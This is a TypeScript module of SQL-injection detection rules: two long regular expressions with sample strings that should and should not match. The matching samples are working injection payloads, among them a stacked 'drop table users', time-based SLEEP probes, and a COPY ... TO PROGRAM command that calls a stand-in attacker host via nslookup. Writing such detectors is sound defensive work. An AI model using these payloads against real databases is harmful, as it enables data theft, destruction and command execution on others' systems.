import type { ArgumentRule } from './argument-rule.ts';

const RISK = { category: 'sql_injection', severity: 'high', weight: 4, onlyInValue: 'sql' } as const;

/** Parts of queries in a value that was to be one part of a query. */
export const SQL_TRICK_RULES: readonly ArgumentRule[] = [
  {
    ...RISK,
    id: 'sql.clause_in_value',
    message: 'A value ends and another clause of the query begins.',
    pattern:
      /^[^'"\n]{0,60}['"]\s{0,2}\){0,3}\s{1,4}(?:and|or|xor|union|group\s{1,3}by|order\s{1,3}by|having|limit|where|like|in|is|between|regexp|rlike|div|procedure|into|for|collate)\b[^\n]{0,300}(?:--|#|\/\*|;%00)\s{0,2}[-+]?\s{0,2}\w{0,8}$|^-?\d{1,9}['"]?\){0,3}\s{1,4}(?:order\s{1,3}by\s{1,3}\d{1,3}\s{0,3}(?:$|--|#)|(?:union\s{1,3}(?:all|distinct|select|\()|procedure|group\s{1,3}by|having\s[^\n]{0,30}[=<>]|into|rlike|regexp|limit\s{1,3}\d{1,5}\s{1,3}(?:into|procedure|union))\b)|^[\w@.-]{1,24}["']?\){0,2}\s?;\s{0,4}(?:drop\s{1,4}(?:table|database|user|schema|view|index)\b|insert\s{1,4}into\s|update\s{1,4}\w{1,64}\s{1,4}set\s|delete\s{1,4}from\s|truncate\s{1,4}table\s|exec(?:ute)?\s{1,4}(?:xp_|sp_|master)|shutdown\s{0,3}(?:--|$))|^\s{0,4}["']?\s{0,2}\)?;\s{0,4}(?:drop|delete\s{1,3}from|insert\s{1,3}into|update\s{1,3}\w{1,64}\s{1,3}set|alter\s|exec(?:ute)?\s|truncate\s|shutdown\b|declare\s|create\s|waitfor\s|select\s|copy\s|set\s{1,3}@|grant\s|call\s|attach\s)|['")\d]\s{0,3}(?:or|and|\|\||&&)\s{0,3}(?:true|not\s{1,3}false|\d{1,6})\s{0,3}(?:--|#|\/\*|;)|^\s{0,3}(?:or|and|\|\||&&)\s{0,3}(?:true|not\s{1,3}false|\d{1,6})\s{0,3}(?:--|#|\/\*|;)|^[^'"\n]{0,40}['"]\s{0,3}(?:or|and|\|\||&&)\s{0,3}(?:true|1|not\s{1,3}false)\s{0,3}$|['"]\s{1,4}(?:and|or)\s{1,4}(['"])(\w{1,12})\1\s{0,3}(?:=|<>|!=|like|<|>)\s{0,3}\1[\w%]{0,12}(?:\1|$)|^\s{0,2}(['"])\s{0,2}(?:[-+&^*|/=<>]{1,2}|like|or|and|div|mod|xor)\s{0,2}\3\w{0,4}\3?\s{0,2}$|^[^'"\n]{0,40}['"]\s{0,3}(?:or|and)\s{1,3}(?:\w{1,30}\s{1,3}(?:is\s{1,3}(?:not\s{1,3})?null|like\s{1,3}['"]%)|['"]{2})/gi,
    hits: [
      "' group by users.id having 1=1--",
      '1 order by 10',
      "'; drop table users",
      'eve; drop table users',
      "' or true--",
      "' and 'a'='b",
      "'-'",
      "1' having 1=1#",
    ],
    misses: [
      "name = 'Miller' or name = 'Smith'",
      "it's or isn't",
      '3 in a row',
      'sort by 3',
      "rock 'n' roll",
      "status in ('open','pending') and assignee is null",
      '"a" and "b"',
    ],
  },
  {
    ...RISK,
    id: 'sql.function_in_value',
    message: 'A value works something out by functions that queries of honest users have no use for.',
    pattern:
      /\/\*!\d{0,6}\s{0,3}(?:union|select|and|or|from|where|sleep|concat|information_schema|order|group)\b|\bun\/\*[^*\n]{0,20}\*\/ion\b|=\s{0,3}(?:convert|cast)\s{0,2}\(\s{0,3}(?:int\s{0,2},|\(?\s{0,3}(?:select|@@|version|user|db_name|current_user))|\b(?:and|or|where|rlike|regexp|having|like|when|,)\s{0,4}\(?\s{0,4}(?:(?:iif|elt|make_set|ifnull|decode|nvl2?)\s{0,2}\(|if\(|if \()\s{0,3}\(?\s{0,3}(?:\d{1,6}\s{0,2}[=<>]|select\b|ascii|ord|length|substr|mid|exists|sleep)|\b(?:rlike|regexp|and|or|where|=|,|^)\s{0,4}\(\s{0,4}select\s{0,4}\(?\s{0,4}case\s{1,4}when\b|\(\s{0,4}case\s{1,4}when\s{1,4}\(?\s{0,4}\(?\s{0,4}(?:select\b|\d{1,6}\s{0,3}=\s{0,3}\d|ascii|substr|exists)|\b(?:dbms_(?:lock|session)\.sleep|dbms_(?:xmlgen|xmlquery|scheduler|java|export_extension|utility)\b|httpuritype\s{0,2}\(|utl_file\.|ctxsys\.|sys\.(?:database_name|dbms_\w{3,20})|lo_(?:import|export)\s{0,2}\(|pg_(?:read_file|ls_dir|read_binary_file|stat_file)\s{0,2}\(|dblink(?:_connect|_send_query)?\s{0,2}\(|openrowset\s{0,2}\(|opendatasource\s{0,2}\(|sp_(?:oacreate|makewebtask|configure|addextendedproc)\b|xp_(?:fileexist|subdirs|availablemedia|enumgroups|loginconfig|servicecontrol)\b|load_extension\s{0,2}\(|sys_(?:exec|eval)\s{0,2}\(|fn_xe_file_target_read_file|fn_trace_gettable)|\bto\s{1,4}program\s{0,4}'|\bfrom\s{1,4}program\s{0,4}'|\b(?:master\.(?:\.(?!\.)|dbo\b|sys\w)|mysql\.user\b|pg_shadow\b|pg_user\b|sysobjects\b|syscolumns\b|sysdatabases\b|msysaccessobjects|all_tab_columns\b|user_tab_columns\b|all_tables\b|sqlite_master\b|sys\.schemas\b|v\$version\b|rdb\$|iitables\b|domain\.columns\b)|\b(?:concat(?:_ws)?|group_concat|char|chr|unhex|hex|load_file|ascii)\s{0,2}\(\s{0,2}0x[0-9a-f]{2}|\bchr\s{0,2}\(\s{0,2}\d{2,3}\s{0,2}\)\s{0,2}\|\|\s{0,2}chr|\b(?:char|nchar)\s{0,2}\(\s{0,2}\d{2,3}\s{0,2}\)\s{0,2}\+\s{0,2}(?:char|nchar)|0x(?<=\b(?:or|and|xor|where|having)\s{0,3}\(?\s{0,2}0x)[0-9a-f]{2,40}\s{0,2}=\s{0,2}0x[0-9a-f]{2}|['")\d]\s{0,3}[-+*/|&^]{1,2}\s{0,3}\(?\s{0,3}(?:select\b[^\n]{0,60}(?:sleep|pg_sleep|benchmark|version|user|from)|sleep\s{0,2}\(|if\s{0,2}\(|benchmark\s{0,2}\(|pg_sleep)|\bsleep\s{0,2}\(\s{0,2}\d{1,4}(?:\.\d)?\s{0,2}\)\s{0,3}(?:--|#|\)|'|"|;)|\b(?:and|or|where|if|\()\s{0,4}\(?\s{0,4}(?:exists\s{0,2}\(\s{0,3}select|\(?\s{0,3}select\s{1,3}count\s{0,2}\(|not\s{1,3}exists\s{0,2}\(\s{0,3}select)|['"\d]\s{0,3}xor\s{0,2}\(|\b(?:and|or)\s{1,4}\(\s{0,3}select\b|\bunion\s{0,2}(?:all\s{0,2})?\(\s{0,3}select\b|\bgenerate_series\s{0,2}\(\s{0,2}1\s{0,2},\s{0,2}\d{6}/gi,
    hits: [
      "' AND 1=CONVERT(int,@@version)--",
      '/*!50000UNION*//*!50000SELECT*/ 1,2,3',
      '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
      "'; COPY (SELECT '') TO PROGRAM 'nslookup x.evil.example'--",
      "1' AND IF(1=1,SLEEP(5),0)",
    ],
    misses: [
      'time.sleep(5)',
      '/*!40101 SET NAMES utf8 */',
      'convert(int, x)',
      'char(65)',
      'the case when it rains',
      'color: 0xff, 0x10',
    ],
  },
];
